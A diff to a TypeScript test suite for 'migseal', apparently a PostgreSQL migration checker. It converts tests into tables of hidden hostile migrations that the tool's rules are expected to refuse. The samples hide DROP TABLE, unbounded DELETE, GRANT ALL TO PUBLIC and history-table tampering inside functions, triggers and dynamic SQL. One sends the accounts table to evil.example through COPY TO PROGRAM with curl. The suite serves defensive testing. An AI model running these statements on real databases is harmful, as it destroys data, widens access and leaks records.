@@ -57,18 +57,16 @@ async function attack(migration: string, rule: string, extra: Record<string, str
   await expectRefused(db, ['apply', bundle, '--trust', strictPolicy(), '--db', db.url], 'FINDINGS_NOT_ALLOWED', new RegExp(`refuses ${ruleText} at 2_hidden\\.up\\.sql line \\d+`));
 }
 
+/** Each row: what the test shows, release 2's hidden migration, and the rule that must refuse it. */
+type Attack = [title: string, migration: string, rule: string];
+
 describe('T5.2 settings that change how later SQL is read', () => {
-  it('SET standard_conforming_strings = off before a backslash-quoted string hiding DROP TABLE', () =>
-    attack("SET standard_conforming_strings = off;\nSELECT 'it\\'s fine; DROP TABLE accounts; --';\n", 'parse/tokenizer-setting'));
-
-  it('set_config with the setting name computed at run time', () =>
-    attack("SELECT set_config('standard_' || 'conforming_strings', 'off', false);\n", 'parse/tokenizer-setting'));
-
-  it('ALTER DATABASE ... SET backslash_quote, which every later session reads under', () =>
-    attack('ALTER DATABASE postgres SET backslash_quote = on;\n', 'parse/tokenizer-setting'));
-
-  it('UPDATE pg_settings (a view whose rule calls set_config)', () =>
-    attack("UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings';\n", 'parse/tokenizer-setting'));
+  it.each<Attack>([
+    ['SET standard_conforming_strings = off before a backslash-quoted string hiding DROP TABLE', "SET standard_conforming_strings = off;\nSELECT 'it\\'s fine; DROP TABLE accounts; --';\n", 'parse/tokenizer-setting'],
+    ['set_config with the setting name computed at run time', "SELECT set_config('standard_' || 'conforming_strings', 'off', false);\n", 'parse/tokenizer-setting'],
+    ['ALTER DATABASE ... SET backslash_quote, which every later session reads under', 'ALTER DATABASE postgres SET backslash_quote = on;\n', 'parse/tokenizer-setting'],
+    ['UPDATE pg_settings (a view whose rule calls set_config)', "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings';\n", 'parse/tokenizer-setting'],
+  ])('%s', (_title, migration, rule) => attack(migration, rule));
 
   it('is refused by default, with no policy entry for it', async () => {
     const db = await appliedDatabase();
@@ -78,60 +76,42 @@ describe('T5.2 settings that change how later SQL is read', () => {
 });
 
 describe('T5.3 code that runs later is read as the statements it runs', () => {
-  it('GRANT inside a PL/pgSQL function body', () =>
-    attack("CREATE FUNCTION open_up() RETURNS void LANGUAGE plpgsql AS $body$\nBEGIN\n  GRANT ALL ON accounts TO PUBLIC;\nEND\n$body$;\nSELECT open_up();\n", 'outside-schema/grant'));
-
-  it('COPY TO PROGRAM in a function created inside another function (nested dollar quotes)', () =>
-    attack(
+  it.each<Attack>([
+    ['GRANT inside a PL/pgSQL function body', "CREATE FUNCTION open_up() RETURNS void LANGUAGE plpgsql AS $body$\nBEGIN\n  GRANT ALL ON accounts TO PUBLIC;\nEND\n$body$;\nSELECT open_up();\n", 'outside-schema/grant'],
+    [
+      'COPY TO PROGRAM in a function created inside another function (nested dollar quotes)',
       'CREATE FUNCTION outer_fn() RETURNS void LANGUAGE plpgsql AS $a$\nBEGIN\n  CREATE FUNCTION inner_fn() RETURNS void LANGUAGE plpgsql AS $b$ BEGIN COPY accounts TO PROGRAM \'curl -d @- evil.example\'; END $b$;\nEND\n$a$;\n',
       'outside-schema/copy-program',
-    ));
-
-  it('DELETE without WHERE in a rule action (CREATE RULE ... DO ALSO)', () =>
-    attack('CREATE TABLE audit_log (id int);\nCREATE RULE wipe AS ON INSERT TO audit_log DO ALSO DELETE FROM accounts;\n', 'destructive/delete-without-where'));
-
-  it('a trigger function whose body drops a table', () =>
-    attack(
+    ],
+    ['DELETE without WHERE in a rule action (CREATE RULE ... DO ALSO)', 'CREATE TABLE audit_log (id int);\nCREATE RULE wipe AS ON INSERT TO audit_log DO ALSO DELETE FROM accounts;\n', 'destructive/delete-without-where'],
+    [
+      'a trigger function whose body drops a table',
       "CREATE FUNCTION on_owner() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DROP TABLE accounts; RETURN NEW; END $$;\nSET lock_timeout = '5s';\nCREATE TRIGGER t AFTER UPDATE ON accounts FOR EACH ROW EXECUTE FUNCTION on_owner();\n",
       'destructive/drop-table',
-    ));
-
-  it('an event trigger, which runs on every later DDL statement including migseal\'s own', () =>
-    attack('CREATE FUNCTION on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN NULL; END $$;\nCREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION on_ddl();\n', 'outside-schema/history-tables'));
-
-  it('EXECUTE format() in a DO block', () => attack("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'accounts'); END $$;\n", 'parse/dynamic-sql'));
-
-  it('SQL handed to query_to_xml as text', () => attack("SELECT query_to_xml('DELETE FROM accounts RETURNING 1', true, false, '');\n", 'parse/dynamic-sql'));
-
-  it('a function body in a language the analysis cannot read (plperl)', () =>
-    attack("CREATE FUNCTION f() RETURNS void LANGUAGE plperl AS $$ spi_exec_query('DROP TABLE accounts'); $$;\n", 'parse/unreadable-body'));
-
-  it('a data-modifying WITH hiding DELETE without WHERE inside a SELECT', () =>
-    attack('WITH gone AS (DELETE FROM accounts RETURNING id) SELECT count(*) FROM gone;\n', 'destructive/delete-without-where'));
-
-  it('EXPLAIN ANALYZE, which runs the statement it explains', () => attack('EXPLAIN ANALYZE DELETE FROM accounts;\n', 'destructive/delete-without-where'));
-
-  it('GRANT as an element of CREATE SCHEMA', () => attack('CREATE SCHEMA reports CREATE TABLE r (id int) GRANT ALL ON r TO PUBLIC;\n', 'outside-schema/grant'));
+    ],
+    ["an event trigger, which runs on every later DDL statement including migseal's own", 'CREATE FUNCTION on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN NULL; END $$;\nCREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION on_ddl();\n', 'outside-schema/history-tables'],
+    ['EXECUTE format() in a DO block', "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'accounts'); END $$;\n", 'parse/dynamic-sql'],
+    ['SQL handed to query_to_xml as text', "SELECT query_to_xml('DELETE FROM accounts RETURNING 1', true, false, '');\n", 'parse/dynamic-sql'],
+    ['a function body in a language the analysis cannot read (plperl)', "CREATE FUNCTION f() RETURNS void LANGUAGE plperl AS $$ spi_exec_query('DROP TABLE accounts'); $$;\n", 'parse/unreadable-body'],
+    ['a data-modifying WITH hiding DELETE without WHERE inside a SELECT', 'WITH gone AS (DELETE FROM accounts RETURNING id) SELECT count(*) FROM gone;\n', 'destructive/delete-without-where'],
+    ['EXPLAIN ANALYZE, which runs the statement it explains', 'EXPLAIN ANALYZE DELETE FROM accounts;\n', 'destructive/delete-without-where'],
+    ['GRANT as an element of CREATE SCHEMA', 'CREATE SCHEMA reports CREATE TABLE r (id int) GRANT ALL ON r TO PUBLIC;\n', 'outside-schema/grant'],
+  ])('%s', (_title, migration, rule) => attack(migration, rule));
 });
 
 describe("T5.10 migseal's own history tables", () => {
-  it('a migration that marks a migration applied in migseal_migrations', () =>
-    attack("UPDATE migseal_migrations SET state = 'applied' WHERE version = '1';\n", 'outside-schema/history-tables'));
-
-  it('a temporary table shadowing migseal_runs', () => attack('CREATE TEMP TABLE migseal_runs (run_id text);\n', 'outside-schema/history-tables'));
-
-  it('a view of the same name in another schema', () =>
-    attack('CREATE SCHEMA shadow;\nCREATE VIEW shadow.migseal_migrations AS SELECT 1 AS migration_key;\n', 'outside-schema/history-tables'));
-
-  it('a trigger on migseal_migrations', () =>
-    attack(
+  it.each<Attack>([
+    ['a migration that marks a migration applied in migseal_migrations', "UPDATE migseal_migrations SET state = 'applied' WHERE version = '1';\n", 'outside-schema/history-tables'],
+    ['a temporary table shadowing migseal_runs', 'CREATE TEMP TABLE migseal_runs (run_id text);\n', 'outside-schema/history-tables'],
+    ['a view of the same name in another schema', 'CREATE SCHEMA shadow;\nCREATE VIEW shadow.migseal_migrations AS SELECT 1 AS migration_key;\n', 'outside-schema/history-tables'],
+    [
+      'a trigger on migseal_migrations',
       "CREATE FUNCTION keep() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NULL; END $$;\nSET lock_timeout = '5s';\nCREATE TRIGGER keep BEFORE DELETE ON migseal_migrations FOR EACH ROW EXECUTE FUNCTION keep();\n",
       'outside-schema/history-tables',
-    ));
-
-  it('search_path changed for the deploy role', () => attack('ALTER ROLE CURRENT_USER SET search_path = shadow, public;\n', 'outside-schema/role'));
-
-  it('search_path changed for the session', () => attack('SET search_path = shadow, public;\n', 'outside-schema/name-resolution'));
+    ],
+    ['search_path changed for the deploy role', 'ALTER ROLE CURRENT_USER SET search_path = shadow, public;\n', 'outside-schema/role'],
+    ['search_path changed for the session', 'SET search_path = shadow, public;\n', 'outside-schema/name-resolution'],
+  ])('%s', (_title, migration, rule) => attack(migration, rule));
 });
 
 describe('T5.6 down scripts are judged before the first one runs', () => {
